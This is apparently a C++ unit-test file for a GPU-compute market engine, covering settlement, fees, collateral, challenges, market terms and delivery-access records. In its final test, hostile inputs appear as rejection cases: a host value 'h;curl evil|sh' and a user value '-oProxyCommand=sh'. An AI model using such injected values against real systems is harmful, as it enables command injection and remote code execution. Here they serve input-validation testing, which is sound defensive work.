// Delivery and settlement through the engine: obligations at gate closure,
// seeded challenges, pro-rata settlement with fees, refunds and penalties,
// collateral rules, and the double-entry ledger behind every figure.
#include <doctest/doctest.h>

#include <set>

#include "market.h"

using namespace gpux::test;
namespace settlement = gpux::settlement;
using settlement::AccountKind;

namespace {

constexpr ParticipantId kBuyer = 1;
constexpr ParticipantId kProvider = 2;

EngineConfig fee_config() {
  EngineConfig config;
  config.buyer_fee_ppm = 5'000;  // 0.5% hold
  config.delivery.challenges_per_obligation = 4;
  config.delivery.penalty_ppm = 250'000;  // 25% of unverified notional
  return config;
}

InstrumentSpec fee_spec() {
  InstrumentSpec spec = standard_spec(1);
  spec.maker_fee_ppm = 1'000;  // 0.1%
  spec.taker_fee_ppm = 3'000;  // 0.3%
  return spec;
}

// The fee spec's instrument, open, with a funded buyer and a provider that
// may sell 100 units.
void open_with_parties(Market& m) {
  m.apply(ListInstrument{fee_spec()});
  m.apply(ChangeInstrumentState{1, InstrumentState::open});
  for (ParticipantId p : {kBuyer, kProvider}) {
    m.apply(AddParticipant{p});
    m.apply(AdjustCash{p, 1'000'000'000});
  }
  m.apply(SetSellCapacity{kProvider, 1, 100});
}

// Keeps a restored engine's events.
struct Collect : EventListener {
  std::vector<Event>& out;
  explicit Collect(std::vector<Event>& o) : out(o) {}
  void on_event(const Event& e) override { out.push_back(e); }
};

// Buyer takes 10 units at 2.00 USD from the provider's resting offer.
struct Traded {
  Market m{BookKind::price_ladder, fee_config()};
  TradeId trade = 0;
  Traded() {
    open_with_parties(m);
    REQUIRE(only<CollateralChanged>(m.apply(PostCollateral{kProvider, 3'000'000})).size() == 1);
    m.sell(kProvider, 2'000'000, 10);
    m.buy(kBuyer, 2'000'000, 10);
    trade = only<Trade>(m.last()).at(0).trade;
  }
  Money balance(ParticipantId p, AccountKind kind) { return m.engine().balance({p, kind}); }
  Money exchange(AccountKind kind) {
    return m.engine().balance(settlement::exchange_account(kind));
  }
};

}  // namespace

TEST_CASE("a trade escrows the buyer's cash and books the provider's receivable") {
  Traded t;
  CHECK(t.balance(kBuyer, AccountKind::escrow) == 20'000'000 + 100'000);  // notional + 0.5% hold
  CHECK(t.balance(kBuyer, AccountKind::reserved) == 0);
  CHECK(t.balance(kProvider, AccountKind::receivable) == 20'000'000);
  CHECK(t.exchange(AccountKind::clearing) == -20'000'000);
  CHECK(t.m.engine().check_invariants().empty());
}

TEST_CASE("gate closure creates obligations; delivery schedules seeded challenges in the hour") {
  Traded t;
  const auto closed = t.m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
  const auto obligations = only<ObligationCreated>(closed);
  REQUIRE(obligations.size() == 1);
  CHECK(obligations[0] ==
        ObligationCreated{obligations[0].stamp, t.trade, 1, kBuyer, kProvider, 2'000'000, 10});
  const auto delivering = t.m.apply(ChangeInstrumentState{1, InstrumentState::delivering});
  // 4 rounds x 10 units: one challenge per unit per round, and every unit
  // of a round challenged at the same instant (proof of quantity).
  const auto challenges = only<ChallengeScheduled>(delivering);
  REQUIRE(challenges.size() == 40);
  const InstrumentSpec spec = fee_spec();
  std::set<std::int64_t> instants;
  for (std::uint32_t i = 0; i < 40; ++i) {
    CHECK(challenges[i].index == i);
    CHECK(challenges[i].provider == kProvider);
    CHECK(challenges[i].at >= spec.delivery_start);
    CHECK(challenges[i].at < spec.delivery_end);
    CHECK(challenges[i].at == settlement::challenge_time(fee_config().delivery.challenge_seed,
                                                         i / 10, spec.delivery_start,
                                                         spec.delivery_end));
    CHECK(challenges[i].at == challenges[i / 10 * 10].at);
    instants.insert(challenges[i].at);
  }
  CHECK(instants.size() == 4);
}

TEST_CASE("partial delivery settles pro rata: payout, fees, refund and penalty") {
  Traded t;
  t.m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
  t.m.apply(ChangeInstrumentState{1, InstrumentState::delivering});
  using O = ChallengeOutcome;
  // Units proven per round of 10: all, 3, 7; the fourth round times out.
  const std::uint32_t proven[] = {10, 3, 7};
  for (std::uint32_t i = 0; i < 30; ++i) {
    const O outcome = i % 10 < proven[i / 10] ? O::passed : O::failed;
    const auto recorded = t.m.apply(RecordChallengeOutcome{t.trade, i, outcome, 0});
    CHECK(only<ChallengeRecorded>(recorded).size() == 1);
  }
  const auto settled = t.m.apply(ChangeInstrumentState{1, InstrumentState::settled});
  const auto timed_out = only<ChallengeRecorded>(settled);
  REQUIRE(timed_out.size() == 10);
  CHECK(timed_out[0].index == 30);
  CHECK(timed_out[0].outcome == O::timed_out);
  const auto figures = only<ObligationSettled>(settled);
  REQUIRE(figures.size() == 1);
  const settlement::SettlementFigures& f = figures[0].figures;
  // 20 of 40 unit-rounds proven: 5 of 10 units verified, notional 10 USD.
  CHECK(f.verified == 5);
  CHECK(f.unverified == 5);
  CHECK(f.buyer_fee == 30'000);     // taker, 0.3% of 10 USD
  CHECK(f.provider_fee == 10'000);  // maker, 0.1%
  CHECK(f.paid_to_provider == 9'990'000);
  CHECK(f.refund == 20'100'000 - 10'000'000 - 30'000);
  // Of it, the 5 unverified units at 2 USD; the rest is the fee hold unused.
  CHECK(settlement::refund_for_unverified(f, figures[0].price) == 10'000'000);
  CHECK(f.penalty == 2'500'000);  // 25% of the unverified 10 USD
  CHECK(f.penalty_shortfall == 0);

  CHECK(t.balance(kBuyer, AccountKind::escrow) == 0);
  CHECK(t.balance(kBuyer, AccountKind::available) == 1'000'000'000 - 10'000'000 - 30'000);
  CHECK(t.balance(kProvider, AccountKind::available) == 1'000'000'000 - 3'000'000 + 9'990'000);
  CHECK(t.balance(kProvider, AccountKind::receivable) == 0);
  CHECK(t.balance(kProvider, AccountKind::collateral) == 500'000);
  CHECK(t.exchange(AccountKind::fees) == 40'000);
  CHECK(t.exchange(AccountKind::penalties) == 2'500'000);
  CHECK(t.exchange(AccountKind::clearing) == 0);
  CHECK(t.m.engine().check_invariants().empty());
}

TEST_CASE("a provider proving 6 of its 10 units in every round is paid for exactly 6") {
  Traded t;
  t.m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
  t.m.apply(ChangeInstrumentState{1, InstrumentState::delivering});
  // It runs 6 devices: in each round of 10 simultaneous challenges, 6 pass.
  for (std::uint32_t i = 0; i < 40; ++i)
    t.m.apply(RecordChallengeOutcome{
        t.trade, i, i % 10 < 6 ? ChallengeOutcome::passed : ChallengeOutcome::failed, 0});
  const auto settled = t.m.apply(ChangeInstrumentState{1, InstrumentState::settled});
  const settlement::SettlementFigures f = only<ObligationSettled>(settled).at(0).figures;
  CHECK(f.verified == 6);
  CHECK(f.unverified == 4);
  CHECK(settlement::refund_for_unverified(f, 2'000'000) == 4 * 2'000'000);
  CHECK(f.penalty == 4 * 2'000'000 / 4);  // 25% of the 4 unproven units' notional
  CHECK(t.m.engine().check_invariants().empty());
}

TEST_CASE("a penalty never exceeds the collateral; the shortfall is reported") {
  Traded t;
  t.m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
  t.m.apply(ChangeInstrumentState{1, InstrumentState::delivering});
  const auto settled = t.m.apply(ChangeInstrumentState{1, InstrumentState::settled});
  const auto f = only<ObligationSettled>(settled).at(0).figures;
  CHECK(f.verified == 0);
  CHECK(f.penalty == 3'000'000);  // all the collateral
  CHECK(f.penalty_shortfall == 5'000'000 - 3'000'000);
  CHECK(f.refund == 20'100'000);
  CHECK(t.balance(kProvider, AccountKind::collateral) == 0);
  CHECK(t.m.engine().check_invariants().empty());
}

TEST_CASE("collateral: posted from available cash, locked while obligations are open") {
  Traded t;
  auto rejected = [&](const CommandBody& body) {
    const auto r = only<CommandRejected>(t.m.apply(body));
    return r.empty() ? std::optional<RejectReason>{} : r[0].reason;
  };
  CHECK(rejected(PostCollateral{kProvider, -1}) == RejectReason::collateral_locked);
  CHECK(rejected(PostCollateral{kProvider, -3'000'001}) == RejectReason::insufficient_collateral);
  CHECK(rejected(PostCollateral{kProvider, 2'000'000'000}) == RejectReason::insufficient_cash);
  CHECK(rejected(PostCollateral{kProvider, 0}) == RejectReason::invalid_amount);
  CHECK(rejected(PostCollateral{9, 1}) == RejectReason::unknown_participant);
  CHECK(rejected(PostCollateral{kBuyer, 1'000}) == std::nullopt);  // buyers may post too
  CHECK(rejected(PostCollateral{kBuyer, -1'000}) == std::nullopt);
  t.m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
  t.m.apply(ChangeInstrumentState{1, InstrumentState::delivering});
  for (std::uint32_t i = 0; i < 40; ++i)
    t.m.apply(RecordChallengeOutcome{t.trade, i, ChallengeOutcome::passed, 0});
  t.m.apply(ChangeInstrumentState{1, InstrumentState::settled});
  // Fully delivered: no penalty, and the collateral is free again.
  CHECK(rejected(PostCollateral{kProvider, -3'000'000}) == std::nullopt);
  CHECK(t.balance(kProvider, AccountKind::collateral) == 0);
}

TEST_CASE("challenge outcomes are refused with a specific reason") {
  Traded t;
  auto rejected = [&](const RecordChallengeOutcome& c) {
    const auto r = only<CommandRejected>(t.m.apply(c));
    return r.empty() ? std::optional<RejectReason>{} : r[0].reason;
  };
  using O = ChallengeOutcome;
  CHECK(rejected({t.trade, 0, O::passed, 0}) == RejectReason::invalid_challenge);  // not delivering
  t.m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
  t.m.apply(ChangeInstrumentState{1, InstrumentState::delivering});
  CHECK(rejected({t.trade + 1, 0, O::passed, 0}) == RejectReason::unknown_obligation);
  CHECK(rejected({t.trade, 40, O::passed, 0}) == RejectReason::invalid_challenge);
  CHECK(rejected({t.trade, 0, O::pending, 0}) == RejectReason::invalid_challenge);
  CHECK(rejected({t.trade, 0, O::failed, 3}) == std::nullopt);
  CHECK(rejected({t.trade, 0, O::passed, 0}) == RejectReason::challenge_already_recorded);
  t.m.apply(ChangeInstrumentState{1, InstrumentState::settled});
  CHECK(rejected({t.trade, 1, O::passed, 0}) == RejectReason::unknown_obligation);
}

TEST_CASE("an instrument's fees may not exceed the buyer's fee hold") {
  Market m{BookKind::price_ladder, fee_config()};
  InstrumentSpec spec = fee_spec();
  spec.taker_fee_ppm = 5'001;
  const auto r = only<CommandRejected>(m.apply(ListInstrument{spec}));
  REQUIRE(r.size() == 1);
  CHECK(r[0].reason == RejectReason::invalid_taker_fee);
}

// The market's terms are a journaled command: they take effect from it, are
// refused where they would break what is held, and travel in snapshots.
TEST_CASE("market terms: set by a command, refused with a reason, carried by snapshots") {
  const SetMarketTerms doubled{
      .buyer_fee_ppm = 10'000,
      .delivery = {.challenges_per_obligation = 8, .penalty_ppm = 500'000, .challenge_seed = 7}};
  const auto rejected = [](const std::vector<Event>& events) {
    const auto r = only<CommandRejected>(events);
    return r.empty() ? std::optional<RejectReason>{} : r.front().reason;
  };

  SUBCASE("a new fee hold applies to the buys after it") {
    Market m{BookKind::price_ladder, fee_config()};
    m.apply(AddParticipant{kBuyer});
    m.apply(AdjustCash{kBuyer, 1'000'000'000});
    m.apply(ListInstrument{fee_spec()});
    m.apply(ChangeInstrumentState{1, InstrumentState::open});
    const auto set = only<MarketTermsSet>(m.apply(doubled));
    REQUIRE(set.size() == 1);
    CHECK(set[0].buyer_fee_ppm == 10'000);
    CHECK(set[0].delivery == doubled.delivery);
    m.buy(kBuyer, 2'000'000, 10);
    // 20.00 and a 1% hold, not the configuration's 0.5%.
    CHECK(m.engine().balance({kBuyer, AccountKind::reserved}) == 20'000'000 + 200'000);
    CHECK(m.engine().check_invariants().empty());
  }

  SUBCASE("refused while buyers' money is held under the old fee hold; delivery terms are not") {
    Traded t;  // the buyer's 20.00 and its hold are in escrow
    const std::uint64_t before = t.m.engine().state_hash();
    CHECK(rejected(t.m.apply(doubled)) == RejectReason::market_terms_locked);
    CHECK(t.m.engine().state_hash() == before);
    SetMarketTerms same_fee = doubled;
    same_fee.buyer_fee_ppm = fee_config().buyer_fee_ppm;
    CHECK(only<MarketTermsSet>(t.m.apply(same_fee)).size() == 1);
    CHECK(t.m.engine().state_hash() != before);
  }

  SUBCASE("invalid terms, and a hold below a listed product's fee") {
    Market m{BookKind::price_ladder, fee_config()};
    m.apply(ListInstrument{fee_spec()});  // taker fee 3000 ppm
    SetMarketTerms bad = doubled;
    bad.buyer_fee_ppm = 1'000'001;
    CHECK(rejected(m.apply(bad)) == RejectReason::invalid_market_terms);
    bad = doubled;
    bad.delivery.challenges_per_obligation = 0;
    CHECK(rejected(m.apply(bad)) == RejectReason::invalid_market_terms);
    bad.delivery.challenges_per_obligation = 61;  // each round challenges every unit
    CHECK(rejected(m.apply(bad)) == RejectReason::invalid_market_terms);
    bad = doubled;
    bad.buyer_fee_ppm = 2'999;
    CHECK(rejected(m.apply(bad)) == RejectReason::invalid_market_terms);
  }

  SUBCASE("a new challenge seed leaves the times of challenges drawn already") {
    Traded t;
    t.m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
    const auto scheduled =
        only<ChallengeScheduled>(t.m.apply(ChangeInstrumentState{1, InstrumentState::delivering}));
    REQUIRE(!scheduled.empty());
    SetMarketTerms reseeded = doubled;
    reseeded.buyer_fee_ppm = fee_config().buyer_fee_ppm;
    REQUIRE(only<MarketTermsSet>(t.m.apply(reseeded)).size() == 1);
    // The instrument keeps the seed it drew with: a restart redraws the
    // same times from the snapshot (provider::pending_challenges).
    const EngineSnapshot snapshot = t.m.engine().snapshot();
    REQUIRE(snapshot.instruments.size() == 1);
    const InstrumentSnapshot& delivering = snapshot.instruments[0];
    CHECK(delivering.challenge_seed == fee_config().delivery.challenge_seed);
    CHECK(delivering.challenge_seed != reseeded.delivery.challenge_seed);
    for (const ChallengeScheduled& c : scheduled)
      CHECK(c.at == settlement::challenge_time(delivering.challenge_seed, c.round,
                                               delivering.spec.delivery_start,
                                               delivering.spec.delivery_end));
    std::vector<Event> events;
    Collect collect(events);
    auto restored = restore_engine(EngineConfig{}, collect, snapshot);
    CHECK(restored->snapshot() == snapshot);
    CHECK(restored->state_hash() == t.m.engine().state_hash());
  }

  SUBCASE("a snapshot carries them: restored with another configuration, the same state") {
    Traded t;
    SetMarketTerms later = doubled;
    later.buyer_fee_ppm = fee_config().buyer_fee_ppm;
    REQUIRE(only<MarketTermsSet>(t.m.apply(later)).size() == 1);
    const EngineSnapshot snapshot = t.m.engine().snapshot();
    REQUIRE(snapshot.market_terms == later);
    std::vector<Event> events;
    Collect collect(events);
    auto restored = restore_engine(EngineConfig{}, collect, snapshot);  // default terms
    CHECK(restored->state_hash() == t.m.engine().state_hash());
    CHECK(restored->snapshot() == snapshot);
    // Without the command, the hash is what it was before terms existed.
    Traded plain;
    EngineSnapshot old = plain.m.engine().snapshot();
    CHECK_FALSE(old.market_terms.has_value());
  }
}

TEST_CASE(
    "a halted instrument takes no new orders or replaces; cancels go on; resumed, it trades") {
  Market m{BookKind::price_ladder, fee_config()};
  open_with_parties(m);
  const OrderId resting = m.sell(kProvider, 2'100'000, 5);
  REQUIRE(resting != 0);
  const auto reason = [](const std::vector<Event>& events) {
    const auto r = only<CommandRejected>(events);
    return r.empty() ? std::optional<RejectReason>{} : r.front().reason;
  };
  const std::uint64_t open_hash = m.engine().state_hash();
  REQUIRE(only<InstrumentHalted>(m.apply(HaltInstrument{1, true})).size() == 1);
  CHECK(m.engine().state_hash() != open_hash);
  CHECK(reason(m.apply(HaltInstrument{1, true})) == RejectReason::invalid_state_transition);
  CHECK(m.buy(kBuyer, 2'100'000, 5) == 0);
  CHECK(reason(m.last()) == RejectReason::instrument_halted);
  CHECK(reason(m.apply(ReplaceOrder{kProvider, resting, 2'000'000, 5})) ==
        RejectReason::instrument_halted);
  CHECK(only<Trade>(m.last()).empty());

  // A snapshot keeps the halt.
  std::vector<Event> restored_events;
  Collect collect(restored_events);
  const EngineSnapshot snapshot = m.engine().snapshot();
  CHECK(snapshot.instruments.at(0).halted);
  CHECK(restore_engine(fee_config(), collect, snapshot)->state_hash() == m.engine().state_hash());

  // Cancels go on while halted.
  CHECK(only<OrderCanceled>(m.apply(CancelOrder{kProvider, resting})).size() == 1);
  REQUIRE(only<InstrumentHalted>(m.apply(HaltInstrument{1, false})).size() == 1);
  CHECK(m.sell(kProvider, 2'100'000, 5) != 0);
  CHECK(m.buy(kBuyer, 2'100'000, 5) != 0);
  CHECK(only<Trade>(m.last()).size() == 1);

  // Halted at gate closure: the halt ends with trading.
  REQUIRE(only<InstrumentHalted>(m.apply(HaltInstrument{1, true})).size() == 1);
  m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
  CHECK_FALSE(m.engine().snapshot().instruments.at(0).halted);
  CHECK(reason(m.apply(HaltInstrument{1, false})) == RejectReason::invalid_state_transition);
  CHECK(m.engine().check_invariants().empty());
}

TEST_CASE("delivery access: reported while the hour delivers, final once revoked, in snapshots") {
  Traded t;
  const auto record = [&](TradeId trade, DeliveryAccess access) {
    return t.m.apply(RecordDelivery{
        .trade = trade, .access = std::make_shared<const DeliveryAccess>(std::move(access))});
  };
  const DeliveryAccess opened{.stage = DeliveryStage::opened,
                              .host = "127.0.0.1",
                              .port = 40022,
                              .user = "gpux",
                              .host_key_fingerprint = "SHA256:abc",
                              .detail = "",
                              .processes_ended = 0};
  const auto refusal = [](const std::vector<Event>& events) {
    const auto r = only<CommandRejected>(events);
    return r.empty() ? std::optional<RejectReason>{} : r.front().reason;
  };
  // Before delivery starts there is nothing to open.
  t.m.apply(ChangeInstrumentState{1, InstrumentState::gate_closed});
  CHECK(refusal(record(t.trade, opened)) == RejectReason::delivery_not_open);
  t.m.apply(ChangeInstrumentState{1, InstrumentState::delivering});
  const std::uint64_t before = t.m.engine().state_hash();
  CHECK(refusal(record(t.trade + 1, opened)) == RejectReason::unknown_obligation);
  DeliveryAccess bad = opened;
  bad.host_key_fingerprint = "MD5:ab";
  CHECK(refusal(record(t.trade, bad)) == RejectReason::invalid_delivery_record);
  bad = opened;
  bad.stage = DeliveryStage::none;
  CHECK(refusal(record(t.trade, bad)) == RejectReason::invalid_delivery_record);
  bad = opened;
  bad.host = "host\nInjected: yes";
  CHECK(refusal(record(t.trade, bad)) == RejectReason::invalid_delivery_record);
  // Buyers paste `ssh -p PORT USER@HOST`: no second command, no option.
  bad = opened;
  bad.host = "h;curl evil|sh";
  CHECK(refusal(record(t.trade, bad)) == RejectReason::invalid_delivery_record);
  bad = opened;
  bad.user = "-oProxyCommand=sh";
  CHECK(refusal(record(t.trade, bad)) == RejectReason::invalid_delivery_record);
  CHECK(t.m.engine().state_hash() == before);  // refusals leave no trace

  const auto recorded = only<DeliveryRecorded>(record(t.trade, opened));
  REQUIRE(recorded.size() == 1);
  CHECK(recorded[0].buyer == kBuyer);
  CHECK(recorded[0].provider == kProvider);
  CHECK(*recorded[0].access == opened);
  CHECK(t.m.engine().state_hash() != before);
  const EngineSnapshot snapshot = t.m.engine().snapshot();
  CHECK(snapshot.instruments.at(0).obligations.at(0).delivery == opened);
  std::vector<Event> events;
  Collect collect(events);
  auto restored = restore_engine(fee_config(), collect, snapshot);
  CHECK(restored->snapshot() == snapshot);
  CHECK(restored->state_hash() == t.m.engine().state_hash());

  // Reported again (an agent restart), then revoked: the end.
  CHECK(only<DeliveryRecorded>(record(t.trade, opened)).size() == 1);
  const DeliveryAccess revoked{.stage = DeliveryStage::revoked,
                               .host = "",
                               .port = 0,
                               .user = "",
                               .host_key_fingerprint = "",
                               .detail = "the hour ended",
                               .processes_ended = 2};
  CHECK(only<DeliveryRecorded>(record(t.trade, revoked)).size() == 1);
  CHECK(refusal(record(t.trade, opened)) == RejectReason::delivery_not_open);
  CHECK(t.m.engine().snapshot().instruments.at(0).obligations.at(0).delivery == revoked);
  CHECK(t.m.engine().check_invariants().empty());
}
